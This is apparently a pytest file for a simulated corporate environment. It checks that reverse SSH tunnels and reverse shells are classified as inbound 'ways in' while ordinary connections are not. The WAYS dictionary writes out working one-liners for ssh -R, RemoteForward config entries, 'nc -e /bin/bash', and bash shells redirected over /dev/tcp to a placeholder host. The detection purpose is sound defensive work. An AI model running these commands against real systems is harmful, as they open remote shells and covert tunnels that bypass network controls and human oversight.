"""Ways by which somebody outside could come in: each is told as one, and whether it opened."""

import pytest

from corpenv.events import Connected

SETTINGS = (
    "mkdir -p .ssh; printf 'Host gate\\n  HostName {host}\\n  RemoteForward 8022 localhost:22\\n' > .ssh/config; "
)
WAYS = {
    "ssh -R": "ssh -fN -R 8022:localhost:22 {host}",
    "an option of ssh by its long name": "ssh -fN -o RemoteForward=8022:localhost:22 {host}",
    "the same with a blank": "ssh -fN -o 'RemoteForward 8022 localhost:22' {host}",
    "a network of two": "ssh -fN -w 0:0 {host}",
    "the account's settings": SETTINGS + "ssh -fN gate",
    "other settings": "mkdir -p .ssh; printf 'RemoteForward 8022 localhost:22\\n' > s; ssh -F s -fN {host}",
    "nc with a shell": "nc -e /bin/bash {host} 22",
    "a shell on a socket": "bash -i >& /dev/tcp/{host}/22 0>&1",
    "a shell on a socket in a shell": "bash -c 'bash -i >& /dev/tcp/{host}/22 0>&1'",
    "a shell on a descriptor": "sh -i 5<> /dev/tcp/{host}/22 0<&5 1>&5 2>&5",
    "a shell on a socket both ways": "exec 5<>/dev/tcp/{host}/22; sh <&5 >&5 2>&5",
    "a loop on a socket both ways": "exec 5<>/dev/tcp/{host}/22; cat <&5 | while read l; do $l 2>&5 >&5; done",
}


@pytest.mark.parametrize("way", WAYS)
def test_a_way_in_is_told_as_one(at, way):
    (flow,) = at("desk", WAYS[way].format(host="job-1")).of(Connected)
    assert (flow.forwards, flow.outcome, flow.host) == ("inbound", "open", "job-1")


@pytest.mark.parametrize("way", WAYS)
def test_a_way_in_that_nobody_lets_out_is_not_open(at, way):
    (flow,) = at("desk", WAYS[way].format(host="other.example")).of(Connected)
    assert flow.outcome == "timed_out"


@pytest.mark.parametrize(
    "line",
    [
        "exec 5<>/dev/tcp/job-1/22", "exec 5<>/dev/tcp/job-1/22; echo hi >&5; head -1 <&5",
        "ssh job-1 hostname", "echo hi > /dev/tcp/job-1/22", "echo hi | nc job-1 22", "ssh -o Port=22 job-1 hostname",
        SETTINGS.format(host="job-1") + "ssh job-1 hostname",
        SETTINGS.format(host="job-1") + "echo '#  RemoteForward 1 a:1' > .ssh/config; ssh job-1 hostname",
    ],
)  # fmt: skip
def test_an_ordinary_connection_is_no_way_in(at, line):
    (flow,) = at("desk", line).of(Connected)
    assert (flow.forwards, flow.outcome) == ("", "open")


def test_a_jump_in_the_settings_is_taken_once(at):
    ran = at("desk", "mkdir -p .ssh; printf 'Host *\\n  ProxyJump job-1\\n' > .ssh/config; ssh log-1 hostname")
    assert [flow.host for flow in ran.of(Connected)] == ["job-1", "log-1"]
    assert ran.text == "log-1\n"
